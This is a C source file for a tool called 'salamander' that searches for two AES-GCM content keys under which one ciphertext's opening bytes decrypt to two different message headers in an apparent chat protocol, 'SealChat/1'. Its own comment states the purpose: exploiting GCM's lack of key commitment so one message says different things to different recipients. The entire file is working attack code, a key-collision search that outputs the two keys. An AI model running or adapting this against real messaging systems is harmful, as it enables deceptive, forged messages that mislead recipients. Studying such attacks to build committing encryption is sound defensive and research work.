/*
 * Finds two content keys under which the first bytes of one ciphertext open to
 * two headers of a body: AES-GCM does not commit to its key, so that a message
 * without a commitment of its own could say one thing to each side.
 *
 *     salamander CTX      in hex; prints two content keys, in hex
 *
 * K = HKDF(CK, ctx, D(body)).  The first six bytes of a body are its length,
 * its kind and its number of heads.  Wanted are two keystreams that differ
 * there by exactly 0 0 0 0 2 d, d from 1 to 7: the same length, a text with d
 * heads to one side, an attachment without any to the other.  That is a
 * collision of 45 bits, which some ten million keys are expected to have.
 */

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <nettle/aes.h>
#include <nettle/hmac.h>

#define SLOTS  (1u << 25)
#define MOST   25000000u

/* Bits 16 to 63: a keystream's first six bytes. */
#define KIND_DIFFERS  (0x02ull << 24)
#define HEADS_DIFFER  (0x07ull << 16)

struct slot {
    uint32_t high;   /* of the bytes, without what may differ */
    uint32_t number; /* of the key, from 1 */
};

static struct hmac_sha256_ctx salted;

static void
content_key(uint8_t ck[32], uint32_t number)
{
    memset(ck, 0x5a, 32);
    memcpy(ck, &number, sizeof(number));
}

static uint64_t
first_bytes(uint32_t number)
{
    static const uint8_t info[] = "SealChat/1 body\0\x01";
    static const uint8_t counter[16] = { [15] = 2 };

    struct hmac_sha256_ctx expand, extract = salted;
    struct aes256_ctx      aes;
    uint8_t                ck[32], prk[32], key[32], stream[16];
    uint64_t               out = 0;

    content_key(ck, number);
    hmac_sha256_update(&extract, 32, ck);
    hmac_sha256_digest(&extract, 32, prk);
    hmac_sha256_set_key(&expand, 32, prk);
    hmac_sha256_update(&expand, sizeof(info) - 1, info);
    hmac_sha256_digest(&expand, 32, key);
    aes256_set_encrypt_key(&aes, key);
    aes256_encrypt(&aes, 16, stream, counter);

    for (int i = 0; i < 6; i++) {
        out |= (uint64_t) stream[i] << (56 - 8 * i);
    }

    return out;
}

static void
print_key(uint32_t number)
{
    uint8_t ck[32];

    content_key(ck, number);
    for (int i = 0; i < 32; i++) {
        printf("%02x", ck[i]);
    }

    putchar('\n');
}

/* A number with those first bytes, the number of heads aside; or 0. */
static uint32_t
find(const struct slot *slots, uint64_t bytes)
{
    uint64_t kept = bytes & ~HEADS_DIFFER;
    uint32_t at = (uint32_t) (kept * 0x9e3779b97f4a7c15ull >> 39);

    for ( ; slots[at].number; at = (at + 1) % SLOTS) {
        if (slots[at].high == (uint32_t) (kept >> 32)
            && ((first_bytes(slots[at].number) ^ bytes) & ~HEADS_DIFFER) == 0)
        {
            return slots[at].number;
        }
    }

    return 0;
}

static void
put(struct slot *slots, uint64_t bytes, uint32_t number)
{
    uint64_t kept = bytes & ~HEADS_DIFFER;
    uint32_t at = (uint32_t) (kept * 0x9e3779b97f4a7c15ull >> 39);

    while (slots[at].number) {
        at = (at + 1) % SLOTS;
    }

    slots[at].high = (uint32_t) (kept >> 32);
    slots[at].number = number;
}

int
main(int argc, char **argv)
{
    struct slot *slots = calloc(SLOTS, sizeof(*slots));
    uint8_t      ctx[32];
    uint64_t     bytes;
    uint32_t     other;
    unsigned     byte;

    if (argc != 2 || strlen(argv[1]) != 64 || slots == NULL) {
        fprintf(stderr, "usage: salamander CTX\n");
        return 2;
    }

    for (int i = 0; i < 32; i++) {
        if (sscanf(argv[1] + 2 * i, "%2x", &byte) != 1) {
            fprintf(stderr, "salamander: CTX has to be hex\n");
            return 2;
        }
        ctx[i] = (uint8_t) byte;
    }

    hmac_sha256_set_key(&salted, 32, ctx);

    for (uint32_t number = 1; number < MOST; number++) {
        bytes = first_bytes(number);
        other = find(slots, bytes ^ KIND_DIFFERS);

        if (other && ((first_bytes(other) ^ bytes) & HEADS_DIFFER)) {
            print_key(number);
            print_key(other);
            free(slots);
            return 0;
        }

        put(slots, bytes, number);
    }

    fprintf(stderr, "salamander: no two keys found\n");
    free(slots);
    return 1;
}
